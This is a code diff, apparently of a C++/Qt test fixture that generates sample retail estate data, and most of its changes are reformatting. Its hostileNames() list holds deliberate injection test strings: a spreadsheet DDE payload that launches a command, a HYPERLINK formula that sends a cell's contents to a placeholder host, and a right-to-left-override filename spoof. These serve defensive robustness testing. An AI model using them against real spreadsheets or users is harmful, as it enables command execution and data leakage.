@@ -17,13 +17,19 @@ Id<T> id(uint kind, int number)
 
 class EstateMaker {
 public:
-    EstateMaker(BoardCase &made, bool isHostile, quint64 seed) : m_case(made), m_isHostile(isHostile), m_random(seed) {}
+    EstateMaker(BoardCase &made, bool isHostile, quint64 seed)
+        : m_case(made)
+        , m_isHostile(isHostile)
+        , m_random(seed)
+    {
+    }
 
     void addStore(int number, int devices)
     {
         static const QStringList regions{u"North"_s, u"South East"_s, u"Wales"_s, QString(), u"London"_s};
         Estate &estate = m_case.estate;
-        Store store{id<Store>(1, number), estate.organisations.front().id, *StoreCode::parse(QString::number(number).rightJustified(4, u'0'))};
+        Store store{id<Store>(1, number), estate.organisations.front().id,
+                    *StoreCode::parse(QString::number(number).rightJustified(4, u'0'))};
         store.name = m_isHostile ? hostileNames().at(number % hostileNames().size()) : u"Store %1"_s.arg(number);
         store.region = m_isHostile ? hostileNames().at(number % 4) : regions.at(number % regions.size());
         store.nation = number % 5 == 2 ? Nation::Wales : Nation::England;
@@ -56,7 +62,8 @@ private:
         const bool isDone = !isSuspected && (number % 5 == 0 || (number % 7 == 0 && i % 2 == 0));
         if (isDone) {
             const QDate on = number % 15 == 0 ? QDate() : m_case.asOf.addDays(-m_random.between(1, 200));
-            device.delivery = {DeliveryState::Removed, number % 2 == 0 ? EvidenceLevel::Verified : EvidenceLevel::Reported, u"ref"_s, on};
+            device.delivery = {DeliveryState::Removed,
+                               number % 2 == 0 ? EvidenceLevel::Verified : EvidenceLevel::Reported, u"ref"_s, on};
             if (number % 20 == 0)
                 device.delivery = {DeliveryState::Disposed, EvidenceLevel::Certified, u"cert"_s, on};
             device.risk = 0;
@@ -100,9 +107,22 @@ private:
 
 QStringList hostileNames()
 {
-    return {u"=cmd|' /C calc'!A0"_s, u"+1+1"_s, u"@SUM(A1:A9)"_s, u"<b>bold</b> & \"quoted\""_s, u"-2"_s, u"\t=1+1"_s,
-            QString(u"right"_s + QChar(0x202E) + u"txt.exe"_s), QString(40 * 1024, u'x'), u"_x000D_ {=1}"_s, QString(QChar(0xD800) + u"half"_s),
-            u"0231"_s, u"*?~"_s, QString(u"bell"_s + QChar(7) + QChar(0xFFFF)), u"=HYPERLINK(\"http://x/?\"&A1)"_s, u"http://example.org/"_s, u">5"_s};
+    return {u"=cmd|' /C calc'!A0"_s,
+            u"+1+1"_s,
+            u"@SUM(A1:A9)"_s,
+            u"<b>bold</b> & \"quoted\""_s,
+            u"-2"_s,
+            u"\t=1+1"_s,
+            QString(u"right"_s + QChar(0x202E) + u"txt.exe"_s),
+            QString(40 * 1024, u'x'),
+            u"_x000D_ {=1}"_s,
+            QString(QChar(0xD800) + u"half"_s),
+            u"0231"_s,
+            u"*?~"_s,
+            QString(u"bell"_s + QChar(7) + QChar(0xFFFF)),
+            u"=HYPERLINK(\"http://x/?\"&A1)"_s,
+            u"http://example.org/"_s,
+            u">5"_s};
 }
 
 BoardCase emptyCase()
@@ -123,7 +143,8 @@ BoardCase generatedCase(int stores, int devicesEach, bool isHostile, quint64 see
     estate.programme.pledgeDate = QDate(2023, 3, 18);
     estate.programme.targetDate = QDate(2027, 12, 31);
     estate.organisations.push_back({id<Organisation>(3, 1), u"Northbridge Stores"_s});
-    estate.constraints.budgets.push_back({QDate(2026, 4, 1), QDate(2027, 3, 31), Money(static_cast<std::int64_t>(stores) * 450'000, Currency::pounds())});
+    estate.constraints.budgets.push_back({QDate(2026, 4, 1), QDate(2027, 3, 31),
+                                          Money(static_cast<std::int64_t>(stores) * 450'000, Currency::pounds())});
     estate.rates.vatRecoverableMillionths = 900'000;
     estate.currentPlan = QByteArray::fromHex("1a2b3c4d5e6f");
     estate.baseline = QByteArray::fromHex("0a0b0c0d0e0f");
@@ -131,7 +152,8 @@ BoardCase generatedCase(int stores, int devicesEach, bool isHostile, quint64 see
     plan.id = estate.currentPlan;
     plan.constraints.start = QDate(2026, 10, 5);
     plan.constraints.crews = {{u"North"_s, 2, {}}, {QString(), 3, {{QDate(2027, 7, 1), QDate(2027, 8, 31), 1}}}};
-    plan.constraints.freezes = {{u"Christmas"_s, QDate(2026, 11, 15), QDate(2027, 1, 4), QString()}, {u"Royal Welsh Show"_s, QDate(2027, 7, 12), QDate(2027, 7, 25), u"Wales"_s}};
+    plan.constraints.freezes = {{u"Christmas"_s, QDate(2026, 11, 15), QDate(2027, 1, 4), QString()},
+                                {u"Royal Welsh Show"_s, QDate(2027, 7, 12), QDate(2027, 7, 25), u"Wales"_s}};
     made.current = plan;
     made.baseline = plan;
     EstateMaker maker(made, isHostile, seed);
